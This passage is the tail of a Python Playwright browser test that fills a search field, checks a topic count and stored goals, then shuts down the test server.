        expect(page.locator("[data-steps] > li")).to_have_count(2)
        page.locator("[data-words]").fill("script klwebran")
        expect(page.locator("[data-count]")).to_contain_text("2 topics fit")
        assert stored(page)["goals"] == ["second"], KEY
        unharmed(reader)
        server.shutdown()
        thread.join()
